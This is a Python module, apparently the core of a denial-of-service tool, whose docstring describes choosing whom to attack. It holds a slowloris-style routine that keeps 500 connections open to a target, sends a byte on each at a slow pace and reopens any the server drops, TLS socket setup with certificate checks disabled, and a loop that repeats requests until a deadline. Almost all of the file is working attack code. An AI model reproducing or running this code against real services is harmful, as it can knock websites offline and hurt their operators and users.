"""Whom to attack, and the two manners to do it: in a crowd that stays, or again and again."""

import http.client
import socket
import ssl
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field

CROWD = 500  # sockets
PACE = 0.5  # seconds between two bytes of somebody slow
LONGEST = 3.0  # seconds for a connection or an answer


@dataclass(frozen=True, slots=True)
class Target:
    """An address, and until when (of the monotonic clock) to attack it."""

    host: str
    port: int
    until: float
    stopped: threading.Event = field(default_factory=threading.Event)

    @property
    def over(self) -> bool:
        return self.stopped.is_set() or time.monotonic() >= self.until

    def plain(self) -> socket.socket:
        return socket.create_connection((self.host, self.port), timeout=LONGEST)

    def secure(self, newest: ssl.TLSVersion = ssl.TLSVersion.TLSv1_3) -> ssl.SSLSocket:
        raw = self.plain()
        try:
            return context_of(newest).wrap_socket(raw)
        except OSError:
            raw.close()
            raise


Attack = Callable[[Target], int]
"""Returns how many connections or requests it made."""


def context_of(newest: ssl.TLSVersion) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.minimum_version, context.maximum_version = ssl.TLSVersion.MINIMUM_SUPPORTED, newest
    return context


def crowd(
    target: Target,
    size: int,
    begin: Callable[[], socket.socket],
    prod: Callable[[socket.socket], object] = lambda _: None,
) -> int:
    """So many connections at all times, each prodded at the pace; who is thrown out comes again."""
    made, peers = 0, list[socket.socket]()
    while not target.over:
        began = time.monotonic()
        while len(peers) < size and not target.over:
            made += 1
            try:
                peers.append(begin())
            except OSError:
                break  # let nobody in: try again at the next round
        for peer in list(peers):
            if not _there(peer, prod):
                peers.remove(peer)
                peer.close()
        time.sleep(max(0.0, min(began + PACE, target.until) - time.monotonic()))
    for peer in peers:
        peer.close()
    return made


def _there(peer: socket.socket, prod: Callable[[socket.socket], object]) -> bool:
    """Prod somebody without waiting; whether the other side is still there."""
    try:
        peer.settimeout(0.0)
        with suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            if not socket.socket.recv(peer, 1, socket.MSG_PEEK) and not isinstance(peer, ssl.SSLSocket):
                return False
        with suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            prod(peer)
    except (OSError, ValueError):
        return False
    return True


def said(peer: socket.socket, what: bytes) -> socket.socket:
    """The peer, that has said something."""
    peer.sendall(what)
    return peer


def paced(target: Target, seconds: float, act: Callable[[], object]) -> int:
    """The same again and again, as many times a second."""
    made = 0
    while not target.over:
        began = time.monotonic()
        with suppress(OSError, http.client.HTTPException):
            act()
        made += 1
        time.sleep(max(0.0, began + seconds - time.monotonic()))
    return made
